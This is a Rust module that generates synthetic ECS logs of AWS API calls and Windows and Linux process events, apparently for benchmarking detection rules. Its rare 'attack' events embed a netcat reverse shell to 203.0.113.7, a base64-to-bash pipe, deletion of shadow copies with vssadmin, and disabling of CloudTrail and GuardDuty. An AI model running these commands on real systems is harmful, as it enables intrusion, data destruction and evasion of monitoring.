//! Made-up logs in the shapes of ECS: calls of a cloud's interface, and processes on
//! Windows and Linux; and samples of logs, repeated with other values.

use std::fmt::Write as _;
use std::fs::{self, File};
use std::io::{self, BufWriter, Write};
use std::path::Path;

use serde_json::Value;

use crate::verbs::bench::synthetic::Random;

/// How many events there are for one that rules look for.
const RARE: u64 = 500;

/// Writes so many events, one a line, the same on every run.
pub(super) fn write(path: &Path, events: u64) -> io::Result<()> {
    let mut random = Random(0x9e37_79b9_7f4a_7c15);
    let mut file = BufWriter::with_capacity(1 << 20, File::create(path)?);
    for number in 0..events {
        let own = Event { number, is_rare: random.below(RARE) == 0 };
        match random.below(3) {
            0 => own.call(&mut random, &mut file)?,
            1 => own.windows(&mut random, &mut file)?,
            _ => own.linux(&mut random, &mut file)?,
        }
    }
    file.flush()
}

/// The moment of an event: a millisecond after the one before.
pub(super) fn time(number: u64) -> String {
    let (seconds, millis) = (number / 1_000, number % 1_000);
    let (minutes, second) = (seconds / 60, seconds % 60);
    let (hours, minute) = (minutes / 60, minutes % 60);
    let (days, hour) = (hours / 24, hours % 24);
    format!("2026-01-{:02}T{hour:02}:{minute:02}:{second:02}.{millis:03}Z", 1 + days % 28)
}

/// One event.
#[derive(Clone, Copy)]
struct Event {
    number: u64,
    is_rare: bool,
}

/// One of some texts.
fn pick<'a>(random: &mut Random, of: &[&'a str]) -> &'a str {
    let at = random.below(of.len() as u64);
    usize::try_from(at).ok().and_then(|at| of.get(at)).copied().unwrap_or_default()
}

/// So many digits of a hash.
fn hex(random: &mut Random, digits: usize) -> String {
    let mut text = String::with_capacity(digits + 16);
    while text.len() < digits {
        // A string takes all that is written.
        let _ = write!(text, "{:016x}", random.below(u64::MAX));
    }
    text.truncate(digits);
    text
}

fn uuid(random: &mut Random) -> String {
    let text = hex(random, 32);
    [&text[..8], &text[8..12], &text[12..16], &text[16..20], &text[20..]].join("-")
}

const CALLS: [(&str, &str); 10] = [
    ("ec2", "DescribeInstances"),
    ("ec2", "DescribeVolumes"),
    ("iam", "GetRole"),
    ("iam", "ListUsers"),
    ("kms", "Decrypt"),
    ("logs", "CreateLogStream"),
    ("s3", "GetObject"),
    ("s3", "PutObject"),
    ("ssm", "UpdateInstanceInformation"),
    ("sts", "AssumeRole"),
];
const RARE_CALLS: [(&str, &str); 4] = [
    ("cloudtrail", "StopLogging"),
    ("guardduty", "DeleteDetector"),
    ("iam", "DeactivateMFADevice"),
    ("rds", "DeleteDBCluster"),
];
const REGIONS: [&str; 4] = ["eu-central-1", "eu-west-1", "us-east-1", "us-west-2"];
const WINDOWS: [&str; 8] = [
    "backgroundTaskHost.exe",
    "chrome.exe",
    "conhost.exe",
    "explorer.exe",
    "MsMpEng.exe",
    "SearchIndexer.exe",
    "svchost.exe",
    "taskhostw.exe",
];
const LINUX: [&str; 10] =
    ["awk", "bash", "cat", "containerd-shim", "cron", "grep", "ls", "ps", "runc", "sshd"];
const RARE_COMMANDS: [&str; 3] =
    ["base64 -d /tmp/.x | bash -c id", "nc -e /bin/sh 203.0.113.7 4444", "chattr -i /etc/passwd"];

impl Event {
    /// A call of a cloud's interface.
    fn call(self, random: &mut Random, out: &mut dyn Write) -> io::Result<()> {
        let calls: &[(&str, &str)] = if self.is_rare { &RARE_CALLS } else { &CALLS };
        let at = usize::try_from(random.below(calls.len() as u64)).unwrap_or(0);
        let (service, action) = calls[at];
        let user = format!("user{}", random.below(300));
        let (time, account) = (time(self.number), 100_000_000_000 + random.below(20));
        let ip = format!("198.51.{}.{}", 100 + random.below(20), random.below(250));
        let region = pick(random, &REGIONS);
        let outcome = if random.below(20) == 0 { "failure" } else { "success" };
        let agent = pick(random, &["aws-cli/2.15.30", "Boto3/1.34.69", "console.amazonaws.com"]);
        let (key, id) = (hex(random, 16), uuid(random));
        let (request, resource) = (uuid(random), random.below(100_000));
        writeln!(
            out,
            "{{\"@timestamp\":\"{time}\",\"agent\":{{\"id\":\"9f2c9c1e-7d0e-4d0c-8f0b-5f5f3a1c2b7d\",\
             \"name\":\"ingest-01\",\"type\":\"filebeat\",\"version\":\"8.17.2\"}},\
             \"aws\":{{\"cloudtrail\":{{\"event_category\":\"Management\",\
             \"event_type\":\"AwsApiCall\",\"event_version\":\"1.09\",\"management_event\":true,\
             \"read_only\":false,\"recipient_account_id\":\"{account}\",\"request_id\":\"{request}\",\
             \"request_parameters\":\"{{name=resource-{resource}, dryRun=false}}\",\
             \"user_identity\":{{\"access_key_id\":\"ASIA{key}\",\
             \"arn\":\"arn:aws:sts::{account}:assumed-role/developer/{user}\",\
             \"type\":\"AssumedRole\"}}}}}},\
             \"cloud\":{{\"account\":{{\"id\":\"{account}\"}},\"provider\":\"aws\",\
             \"region\":\"{region}\"}},\"data_stream\":{{\"dataset\":\"aws.cloudtrail\",\
             \"namespace\":\"default\",\"type\":\"logs\"}},\"ecs\":{{\"version\":\"8.11.0\"}},\
             \"event\":{{\"action\":\"{action}\",\"category\":[\"iam\"],\"created\":\"{time}\",\
             \"dataset\":\"aws.cloudtrail\",\"id\":\"{id}\",\"kind\":\"event\",\"module\":\"aws\",\
             \"outcome\":\"{outcome}\",\"provider\":\"{service}.amazonaws.com\",\
             \"type\":[\"info\"]}},\"related\":{{\"ip\":[\"{ip}\"],\"user\":[\"{user}\"]}},\
             \"source\":{{\"address\":\"{ip}\",\"as\":{{\"number\":64500}},\
             \"geo\":{{\"country_iso_code\":\"DE\",\"location\":{{\"lat\":50.1,\"lon\":8.6}}}},\
             \"ip\":\"{ip}\"}},\"tags\":[\"forwarded\"],\"user\":{{\"id\":\"AROA{key}\",\
             \"name\":\"{user}\"}},\"user_agent\":{{\"device\":{{\"name\":\"Other\"}},\
             \"name\":\"Other\",\"original\":\"{agent}\"}}}}"
        )
    }

    /// A process on Windows.
    fn windows(self, random: &mut Random, out: &mut dyn Write) -> io::Result<()> {
        let program = if self.is_rare { "vssadmin.exe" } else { pick(random, &WINDOWS) };
        let command = if self.is_rare {
            "vssadmin.exe delete shadows /all /quiet".to_owned()
        } else {
            format!(
                "C:\\\\Windows\\\\System32\\\\{program} -k netsvcs -p -s {}",
                random.below(5_000)
            )
        };
        let parent = pick(random, &["services.exe", "explorer.exe", "svchost.exe", "cmd.exe"]);
        let host = random.below(2_000);
        let (id, entity, around) = (uuid(random), hex(random, 40), hex(random, 40));
        let hash = random.below(400);
        writeln!(
            out,
            "{{\"@timestamp\":\"{time}\",\"agent\":{{\"id\":\"{host:08x}-7d0e-4d0c-8f0b-5f5f3a1c2b7d\",\
             \"type\":\"endpoint\",\"version\":\"8.17.2\"}},\
             \"data_stream\":{{\"dataset\":\"endpoint.events.process\",\"namespace\":\"default\",\
             \"type\":\"logs\"}},\"ecs\":{{\"version\":\"8.10.0\"}},\
             \"event\":{{\"action\":\"start\",\"category\":[\"process\"],\"created\":\"{time}\",\
             \"dataset\":\"endpoint.events.process\",\"id\":\"{id}\",\"kind\":\"event\",\
             \"module\":\"endpoint\",\"outcome\":\"unknown\",\"sequence\":{number},\
             \"type\":[\"start\"]}},\
             \"host\":{{\"architecture\":\"x86_64\",\"hostname\":\"win-{host}\",\
             \"id\":\"{host:08x}-4b0f-4c57-9d25-000000000000\",\"ip\":[\"10.1.{a}.{b}\"],\
             \"name\":\"win-{host}\",\"os\":{{\"family\":\"windows\",\"kernel\":\"10.0.22631\",\
             \"name\":\"Windows\",\"platform\":\"windows\",\"type\":\"windows\"}}}},\
             \"process\":{{\"args\":[\"{program}\",\"-k\",\"netsvcs\"],\"args_count\":3,\
             \"code_signature\":{{\"exists\":true,\"status\":\"trusted\",\
             \"subject_name\":\"Microsoft Windows\",\"trusted\":true}},\
             \"command_line\":\"{command}\",\"entity_id\":\"{entity}\",\
             \"executable\":\"C:\\\\Windows\\\\System32\\\\{program}\",\
             \"hash\":{{\"sha256\":\"{hash:064x}\"}},\
             \"name\":\"{program}\",\"parent\":{{\"entity_id\":\"{around}\",\
             \"executable\":\"C:\\\\Windows\\\\System32\\\\{parent}\",\"name\":\"{parent}\",\
             \"pid\":{parent_pid}}},\"pe\":{{\"original_file_name\":\"{program}\"}},\"pid\":{pid}}},\
             \"user\":{{\"domain\":\"CORP\",\"id\":\"S-1-5-21-1-2-3-{user}\",\
             \"name\":\"user{user}\"}}}}",
            time = time(self.number),
            number = self.number,
            a = host / 250,
            b = host % 250,
            pid = 4 * random.below(16_000),
            parent_pid = 4 * random.below(16_000),
            user = 1_000 + random.below(500),
        )
    }

    /// A process on Linux.
    fn linux(self, random: &mut Random, out: &mut dyn Write) -> io::Result<()> {
        let program = if self.is_rare { "bash" } else { pick(random, &LINUX) };
        let command = if self.is_rare {
            pick(random, &RARE_COMMANDS).to_owned()
        } else {
            format!("/usr/bin/{program} --config /etc/app/{}.conf", random.below(3_000))
        };
        let parent = pick(random, &["systemd", "bash", "containerd-shim", "sshd"]);
        let host = random.below(3_000);
        let (id, entity, around) = (uuid(random), hex(random, 40), hex(random, 40));
        writeln!(
            out,
            "{{\"@timestamp\":\"{time}\",\"agent\":{{\"id\":\"{host:08x}-2d0e-4d0c-8f0b-5f5f3a1c2b7d\",\
             \"type\":\"endpoint\",\"version\":\"8.17.2\"}},\
             \"data_stream\":{{\"dataset\":\"endpoint.events.process\",\"namespace\":\"default\",\
             \"type\":\"logs\"}},\"ecs\":{{\"version\":\"8.10.0\"}},\
             \"event\":{{\"action\":\"exec\",\"category\":[\"process\"],\"created\":\"{time}\",\
             \"dataset\":\"endpoint.events.process\",\"id\":\"{id}\",\"kind\":\"event\",\
             \"module\":\"endpoint\",\"outcome\":\"unknown\",\"sequence\":{number},\
             \"type\":[\"start\"]}},\
             \"group\":{{\"id\":\"0\",\"name\":\"root\"}},\
             \"host\":{{\"architecture\":\"x86_64\",\"hostname\":\"lin-{host}\",\
             \"id\":\"{host:032x}\",\"ip\":[\"10.2.{a}.{b}\",\"fe80::1\"],\"name\":\"lin-{host}\",\
             \"os\":{{\"family\":\"debian\",\"kernel\":\"6.1.0-18-amd64\",\"name\":\"Linux\",\
             \"platform\":\"debian\",\"type\":\"linux\",\"version\":\"12.5\"}}}},\
             \"process\":{{\"args\":[\"/usr/bin/{program}\",\"--config\",\"/etc/app/app.conf\"],\
             \"args_count\":3,\"command_line\":\"{command}\",\
             \"entity_id\":\"{entity}\",\"executable\":\"/usr/bin/{program}\",\
             \"hash\":{{\"sha256\":\"{hash:064x}\"}},\"interactive\":false,\"name\":\"{program}\",\
             \"parent\":{{\"args\":[\"{parent}\"],\"command_line\":\"{parent}\",\
             \"entity_id\":\"{around}\",\"executable\":\"/usr/bin/{parent}\",\
             \"name\":\"{parent}\",\"pid\":{parent_pid}}},\"pid\":{pid},\
             \"tty\":{{\"char_device\":{{\"major\":8,\"minor\":1}}}},\
             \"working_directory\":\"/var/lib/app\"}},\
             \"user\":{{\"id\":\"{user}\",\
             \"name\":\"svc{user}\"}}}}",
            time = time(self.number),
            number = self.number,
            a = host / 250,
            b = host % 250,
            hash = random.below(600),
            pid = random.below(60_000),
            parent_pid = random.below(60_000),
            user = random.below(200),
        )
    }
}

/// Writes the events of a folder again and again, with other numbers and ids in them and
/// moments of their own, until there are so many; how many there are.
pub(super) fn write_diverse(path: &Path, samples: &Path, events: u64) -> io::Result<u64> {
    let mut files: Vec<_> = fs::read_dir(samples)?.collect::<io::Result<Vec<_>>>()?;
    files.sort_by_key(fs::DirEntry::path);
    let mut all: Vec<Value> = Vec::new();
    for file in files {
        let text = fs::read_to_string(file.path())?;
        all.extend(text.lines().filter_map(|line| serde_json::from_str(line).ok()));
    }
    let mut file = BufWriter::with_capacity(1 << 20, File::create(path)?);
    let mut random = Random(0x9e37_79b9_7f4a_7c15);
    let mut number = 0;
    while number < events && !all.is_empty() {
        for sample in all.iter().take(usize::try_from(events - number).unwrap_or(usize::MAX)) {
            let mut event = sample.clone();
            vary(&mut event, &mut random);
            event["@timestamp"] = time(number).into();
            writeln!(file, "{event}")?;
            number += 1;
        }
    }
    file.flush()?;
    Ok(number)
}

/// Changes the digits of texts that look like ids, and numbers above 1,000.
fn vary(value: &mut Value, random: &mut Random) {
    match value {
        Value::Object(object) => object.values_mut().for_each(|value| vary(value, random)),
        Value::Array(values) => values.iter_mut().for_each(|value| vary(value, random)),
        Value::Number(number) => {
            if number.as_u64().is_some_and(|number| number > 1_000) {
                *value = (1_000 + random.below(1_000_000)).into();
            }
        }
        Value::String(text) => {
            let digits = text.bytes().filter(u8::is_ascii_digit).count();
            if digits >= 6 && digits * 4 >= text.len() {
                let other = |letter: char| match letter.to_digit(10) {
                    Some(digit) => {
                        let digit = (u64::from(digit) + random.below(3)) % 10;
                        char::from_digit(u32::try_from(digit).unwrap_or(0), 10).unwrap_or(letter)
                    }
                    None => letter,
                };
                *text = text.chars().map(other).collect();
            }
        }
        Value::Null | Value::Bool(_) => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_line_is_an_event_of_a_data_stream_and_about_as_long_as_real_ones() {
        let path = std::env::temp_dir().join(format!("bench-logs-{}", std::process::id()));
        write(&path, 3_000).expect("a file");
        let text = fs::read_to_string(&path).expect("text");
        drop(fs::remove_file(&path));
        let mut streams = std::collections::BTreeSet::new();
        for line in text.lines() {
            let event: Value =
                serde_json::from_str(line).unwrap_or_else(|why| panic!("{why}: {line}"));
            assert!(event["@timestamp"].is_string(), "{line}");
            streams.insert(event["data_stream"]["dataset"].as_str().map(str::to_owned));
        }
        assert_eq!((text.lines().count(), streams.len()), (3_000, 2));
        let mean = text.len() / 3_000;
        assert!((1_200..1_500).contains(&mean), "{mean} bytes");
    }
}
